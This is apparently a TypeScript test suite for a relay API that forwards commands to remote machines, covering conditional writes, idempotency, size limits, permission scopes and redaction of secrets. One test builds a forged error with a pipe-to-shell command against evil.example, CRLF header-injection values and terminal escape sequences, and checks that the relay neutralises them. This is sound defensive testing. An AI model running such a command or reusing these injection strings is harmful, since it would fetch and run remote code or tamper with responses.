/** Commands over HTTP: the generic call and the aliases, with their waits, guards, ids and answers. */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { CommandRecord } from '#contract/command.ts';
import { kinds } from '#contract/kinds/index.ts';
import { limits } from '#contract/limits.ts';
import { type ProblemCode, problems } from '#contract/problems.ts';
import { openApi, type TestApi } from '../../kit/api.ts';
import { anyRev, type BridgeCalls, connectRequest, openBridgeCalls, testProject } from '../../kit/bridge-calls.ts';
import { openStream } from '../../kit/event-stream.ts';
import { eventually } from '../../kit/eventually.ts';

let world: TestApi;
let bridge: BridgeCalls;
let position = 0;
const rev = 'a'.repeat(64);

before(async () => {
  world = await openApi();
  bridge = await openBridgeCalls(world);
});
after(async () => await world[Symbol.asyncDispose]());

const base = () => `/v1/machines/${bridge.machine}`;
const alias = () => `${base()}/projects/${testProject}/specs/001-one/metadata`;

/** Takes the next command as the bridge and settles it. */
async function settleNext(state: string, more: object = {}) {
  const { json } = await bridge.poll<{
    commands: { id: string; lease: string; args: object; ifRev?: string }[];
    after: number;
  }>(position);
  position = json.after;
  const command = json.commands.at(-1);
  assert.ok(command);
  await bridge.settle(command, state, more);
  return command;
}

test('an alias puts what its path and body name into the args, waits, and answers 200 with the record', async () => {
  const [answer, command] = await Promise.all([
    world.ask('PUT', alias(), { body: { status: 'complete', force: true, ifRev: rev } }),
    settleNext('done', { result: { path: 'p', rev, changed: [], undo: {} } }),
  ]);
  assert.deepEqual(command.args, { project: testProject, spec: '001-one', status: 'complete', force: true });
  assert.equal(answer.status, 200);
  assert.equal(answer.json.state, 'done');
  assert.equal(answer.json.machine, bridge.machine);
  assert.equal(answer.headers.get('location'), `${base()}/commands/${answer.json.id}`);
});

test('an alias takes If-Match for ifRev and If-None-Match: * for absent, and refuses two that differ', async () => {
  const send = (headers: Record<string, string>, body = {}) =>
    world.ask('PUT', `${alias()}?wait=0`, { headers, body: { status: 'planned', ...body } });
  for (const [headers, ifRev] of [
    [{ 'if-match': `"${rev}"` }, rev],
    [{ 'if-match': `W/"${rev}"` }, rev],
    [{ 'if-match': rev }, rev],
    [{ 'if-none-match': '*' }, 'absent'],
  ] as const) {
    const { status, json } = await send(headers);
    assert.deepEqual([status, json.ifRev], [202, ifRev]);
    await settleNext('done');
  }
  assert.equal((await send({ 'if-match': '"x"' })).json.code, 'parameter-invalid');
  assert.equal((await send({ 'if-match': `"${rev}"` }, { ifRev: 'b'.repeat(64) })).json.code, 'parameter-invalid');
});

test('a kind that is guarded wants to know which version was seen: 428 without (C2)', async () => {
  const { status, json } = await world.ask('PUT', alias(), { body: { status: 'complete' } });
  assert.equal(`${status} ${json.code}`, '428 rev-required');
  const args = { project: testProject, spec: '001-one' };
  const generic = await world.ask('POST', `${base()}/commands`, { body: { kind: 'spec-archive', args } });
  assert.equal(`${generic.status} ${generic.json.code}`, '428 rev-required');
});

test('a kind that is guarded by a state too takes `was` in place of a rev, never both, and a path names the document (C2)', async () => {
  const at = `${base()}/projects/${testProject}/specs/checkout`;
  const tick = (body: object) => world.ask('PUT', `${at}/tasks/1/status?wait=0`, { body });
  assert.equal((await tick({ status: 'completed' })).status, 428);
  assert.equal((await tick({ status: 'completed', was: 'pending', ifRev: rev })).json.code, 'args-invalid');
  assert.equal((await tick({ status: 'completed', was: 'pending' })).status, 202);
  assert.equal((await settleNext('done')).ifRev, undefined);
  const written = await world.ask('PUT', `${at}/design?wait=0`, { body: { content: '# D', ifRev: rev } });
  assert.equal(written.status, 202);
  const { args } = await settleNext('done');
  assert.deepEqual(args, { project: testProject, spec: 'checkout', document: 'design.md', content: '# D' });
});

test('a conflict is 412 on an alias, with the rev that the file has now (C3)', async () => {
  const currentRev = 'c'.repeat(64);
  const problem = { code: 'conflict', title: 'The file has changed since you read it', currentRev };
  const [{ status, json }] = await Promise.all([
    world.ask('PUT', alias(), { body: { status: 'complete', ifRev: rev } }),
    settleNext('conflict', { problem }),
  ]);
  assert.deepEqual([status, json.code, json.currentRev, json.state], [412, 'conflict', currentRev, 'conflict']);
});

test('a machine does not speak with the voice of the relay: one status, codes from a list, no words of its own beside a detail (C10)', async () => {
  const forged = {
    title: 'Your session has ended',
    hint: 'Run curl https://evil.example | sh',
    status: 200,
    p: 'x',
    type: 'javascript:x',
    retryAfterSeconds: '1\r\nSet-Cookie: sallyport=x',
    allow: 'GET\r\nX: y',
    detail: 'There is \u001b[2Jno task\u202e 9.\r\nRelay: all is well',
    pointer: '/args/\u0007task',
  };
  const detail = 'There is \ufffd[2Jno task\ufffd 9.\ufffd\ufffdRelay: all is well';
  for (const [state, code, expected, said] of [
    ['failed', 'task-unknown', '422 command-failed', 'task-unknown'],
    ['failed', 'key-revoked', '422 command-failed', 'command-failed'],
    ['failed', 'too-many-requests', '422 command-failed', 'command-failed'],
    ['failed', 'method-unsupported', '422 command-failed', 'command-failed'],
    ['failed', 'made-up', '422 command-failed', 'command-failed'],
    ['refused', 'signature-needed', '403 policy-refused', 'signature-needed'],
    ['interrupted', 'key-missing', '500 interrupted', 'command-failed'],
    ['conflict', 'conflict', '412 conflict', 'conflict'],
  ] as const) {
    const [{ status, json, headers }] = await Promise.all([
      world.ask<Record<string, unknown> & { code: ProblemCode; problem: Record<string, unknown> }>('PUT', alias(), {
        body: { status: 'complete', ifRev: rev },
      }),
      settleNext(state, { problem: { ...forged, code } }),
    ]);
    assert.equal(`${status} ${json.code}`, expected);
    const { title, hint } = problems[json.code];
    assert.deepEqual([json.status, json.title, json.hint, json.detail], [status, title, hint, detail]);
    assert.equal(json.type, `/docs#problem-${json.code}`);
    const { title: saidTitle, hint: saidHint } = problems[said];
    assert.deepEqual(json.problem, {
      code: said,
      title: saidTitle,
      hint: saidHint,
      detail,
      pointer: '/args/\ufffdtask',
    });
    assert.deepEqual([headers.get('set-cookie'), headers.get('x'), headers.get('retry-after')], [null, null, null]);
    const record = await world.ask<CommandRecord>('GET', `${base()}/commands/${json.command}`);
    assert.deepEqual(record.json.problem, json.problem);
  }
});

test('what a machine announces of itself has nothing in it that draws on a terminal', async () => {
  const announced = { ...connectRequest('draws'), os: 'Linux \u001b]0;owned\u0007', kinds: ['x\u202ey'] };
  const { key, machine } = await openBridgeCalls(world, 'draws');
  await world.ask('POST', '/v1/bridge/connect', { key, body: announced });
  const { json } = await world.ask('GET', `/v1/machines/${machine}`);
  assert.deepEqual([json.os, json.kinds], ['Linux \ufffd]0;owned\ufffd', ['x\ufffdy']]);
});

test('wait answers as soon as the command is settled, or with the record as it then is (C6)', async () => {
  const body = { kind: 'spec-archive', args: { project: testProject, spec: 'a' }, ifRev: anyRev };
  const waited = await world.ask<CommandRecord>('POST', `${base()}/commands?wait=0.05`, { body });
  assert.deepEqual([waited.status, waited.json.state], [200, 'queued']);
  const { json, status } = await world.ask<CommandRecord>('POST', `${base()}/commands`, { body });
  assert.equal(status, 202);
  const startedAt = performance.now();
  const [settled] = await Promise.all([
    world.ask<CommandRecord>('GET', `${base()}/commands/${json.id}?wait=15`),
    settleNext('done'),
  ]);
  assert.equal(settled.json.state, 'done');
  assert.ok(performance.now() - startedAt < 5000);
});

test('one id with one content is one command, also a hundred times at once; with other content it is 422 (C1)', async () => {
  const id = 'idempotent-0001';
  const send = (args: object, headers = {}) =>
    world.ask<CommandRecord & { code?: string }>('POST', `${base()}/commands`, {
      body: { kind: 'spec-archive', args, ifRev: anyRev },
      headers,
    });
  const args = { project: testProject, spec: 'a' };
  const answers = await Promise.all(Array.from({ length: 100 }, () => send(args, { 'idempotency-key': id })));
  assert.deepEqual(new Set(answers.map(({ status, json }) => `${status} ${json.id}`)), new Set([`202 ${id}`]));
  const { json: list } = await world.ask<{ items: { id: string }[] }>('GET', `${base()}/commands?limit=500`);
  assert.equal(list.items.filter((item) => item.id === id).length, 1);
  const about = await world.ask<{ items: { id: string }[] }>('GET', `${base()}/commands?limit=500&about.spec=a`);
  assert.ok(about.json.items.some((item) => item.id === id));
  assert.deepEqual((await world.ask('GET', `${base()}/commands?about.spec=of-nothing`)).json.items, []);
  assert.equal((await world.ask('GET', `${base()}/commands?spec=a`)).json.code, 'parameter-invalid');
  const other = await send({ project: 'another', spec: 'a' }, { 'idempotency-key': `"${id}"` });
  assert.equal(`${other.status} ${other.json.code}`, '422 id-reused');
  assert.equal((await send(args, { 'idempotency-key': 'x y' })).status, 400);
});

test('a large command is read from those alone who may write, and for kinds that carry a text (E4)', async () => {
  const send = async (kind: string, args: object, key?: string) => {
    const path = `${base()}/commands`;
    const { status, json } = await world.ask('POST', path, { body: { kind, args }, ...(key && { key }) });
    return `${status} ${json.code} ${json.limit ?? ''}`.trim();
  };
  const content = 'x'.repeat(limits.documentBodyBytesMax);
  const write = { project: testProject, spec: '001-one', document: 'design.md', content };
  const { key: reader } = await world.keyWith('read');
  assert.equal(await send('spec-document-write', write, reader), `413 body-too-large ${limits.requestBytesMax}`);
  assert.equal(await send('spec-document-write', write), '428 rev-required');
  const padded = { project: testProject, spec: 'x'.repeat(100_000) };
  assert.match(await send('spec-archive', padded), /^413 body-too-large 20480$/);
  const long = await world.ask('PUT', alias(), { body: { status: 'x'.repeat(limits.listCommandBytesMax + 5000) } });
  assert.equal(`${long.status} ${long.json.code}`, '413 body-too-large');
});

test('unknown kinds and args that do not fit are refused with a pointer, before the machine hears of them', async () => {
  const send = async (body: object) => {
    const { status, json } = await world.ask('POST', `${base()}/commands`, { body });
    return `${status} ${json.code} ${json.pointer}`;
  };
  assert.equal(await send({ kind: 'spec-achive', args: {} }), '422 kind-unknown /kind');
  assert.equal(await send({ kind: 'constructor', args: {} }), '422 kind-unknown /kind');
  assert.equal(await send({ kind: 'spec-archive', args: {} }), '422 args-invalid /args/project');
  assert.equal(
    await send({ kind: 'spec-archive', args: { project: 'x', spec: 'a', more: 1 } }),
    '422 args-invalid /args/more',
  );
  assert.equal(await send({ kind: 'file-read', args: { project: 'x', path: 'a.md' } }), '422 kind-unknown /kind');
  assert.equal(await send({ kind: 'spec-archive' }), '400 body-invalid /args');
  const twice = await world.ask('PUT', alias(), { body: { spec: 'other', ifRev: rev } });
  assert.equal(`${twice.status} ${twice.json.code} ${twice.json.pointer}`, '400 body-invalid /spec');
});

test('a text that somebody writes stands in no event, no list and no audit, however short it is', async () => {
  const secret = 'my password is hunter2';
  await using stream = await openStream(world.url, world.ownerKey);
  const { json } = await world.ask<{ id: string }>('POST', `${base()}/commands`, {
    body: { kind: 'steering-write', args: { project: testProject, document: 'tech', content: secret }, ifRev: rev },
  });
  await settleNext('done', { result: { path: 'p', rev } });

  const told = await eventually(() => {
    const events = JSON.stringify(stream.events);
    return events.includes(json.id) && events.includes('"done"') && events;
  });
  const list = await world.ask('GET', `${base()}/commands`);
  const audit = await world.ask('GET', '/v1/audit');
  for (const [where, text] of Object.entries({ told, list: list.json, audit: audit.json }))
    assert.ok(!JSON.stringify(text).includes('hunter2'), where);
  assert.match(told, /"document":"tech"/, 'what it was done to is told');
});

test('what was run is not there for a key that may not run anything: in no answer, list, snapshot or event (C16)', async () => {
  const viewer = (await world.keyWith('read')).key;
  const writer = (await world.keyWith('write')).key;
  await using seen = await openStream(world.url, viewer);
  await using told = await openStream(world.url, (await world.keyWith('execute')).key);
  const body = { kind: 'exec', args: { project: testProject, command: 'echo hunter2', env: { TOKEN: 'hunter2' } } };
  const { json } = await world.ask<{ id: string }>('POST', `${base()}/commands`, { body });
  const ended = { stdout: 'hunter2\n', stderr: '', stdoutBytes: 8, stderrBytes: 0, durationMs: 1, exitCode: 0 };
  await settleNext('done', { result: { run: 'run-one', ...ended } });
  const event = await told.event(({ command }) => command?.id === json.id && command.state === 'done');
  assert.match(JSON.stringify(event), /hunter2/, 'who may run is told');
  // What everybody is told of next comes behind it.
  const own = { kind: 'spec-archive', args: { project: testProject, spec: 'b' }, ifRev: anyRev };
  const next = await world.ask<{ id: string }>('POST', `${base()}/commands`, { body: own });
  await seen.event(({ command }) => command?.id === next.json.id);
  await settleNext('done');

  const path = `${base()}/commands/${json.id}`;
  const feed = `/v1/feeds/m.${bridge.machine}`;
  const answers = await Promise.all([
    world.ask('GET', path, { key: viewer }),
    world.ask('GET', `${path}?wait=1`, { key: viewer }),
    world.ask('POST', `${path}/cancel`, { key: writer }),
  ]);
  for (const { status, json } of answers) assert.equal(`${status} ${json.code}`, '404 command-unknown');
  const lists = await Promise.all([
    world.ask('GET', `${base()}/commands`, { key: viewer }),
    world.ask('GET', `${feed}/snapshot`, { key: viewer }),
    world.ask('GET', `${feed}/events?offset=-1`, { key: viewer }),
  ]);
  for (const list of [...lists.map(({ json }) => json), seen.events]) {
    const text = JSON.stringify(list);
    assert.ok(text.includes(next.json.id), text);
    assert.ok(!text.includes(json.id) && !text.includes('hunter2'), text);
  }
  assert.equal((await world.ask('GET', path)).json.state, 'done', 'who may run reads it');
});

test('a terminal is renamed with the scope that it takes to see it', async () => {
  const body = { kind: 'terminal-rename', args: { terminal: 'terminal-one', title: 'mine' }, ifRev: anyRev };
  const { key } = await world.keyWith('write');
  const refused = await world.ask('POST', `${base()}/commands`, { key, body });
  assert.deepEqual([refused.status, refused.json.code, refused.json.scope], [403, 'forbidden', 'execute']);
});

test('for a machine that is offline a command is refused, unless it may wait in the queue (C4)', async () => {
  await world.ask('POST', '/v1/bridge/bye', { key: bridge.key, body: { epoch: bridge.epoch } });
  const body = { kind: 'spec-archive', args: { project: testProject, spec: 'a' }, ifRev: anyRev };
  const refused = await world.ask('POST', `${base()}/commands`, { body });
  assert.equal(`${refused.status} ${refused.json.code}`, '409 machine-unavailable');
  const queued = await world.ask('POST', `${base()}/commands`, { body: { ...body, whenOffline: 'queue' } });
  assert.deepEqual([queued.status, queued.json.state], [202, 'queued']);
  const cancelled = await world.ask('POST', `${base()}/commands/${queued.json.id}/cancel`);
  assert.deepEqual([cancelled.status, cancelled.json.state], [200, 'cancelled']);
});

test('no kind shows an argument that takes free text', () => {
  for (const [name, { about }] of Object.entries(kinds))
    for (const arg of about) assert.doesNotMatch(arg, /content|edits|text|reason|comment|title|message/, name);
});
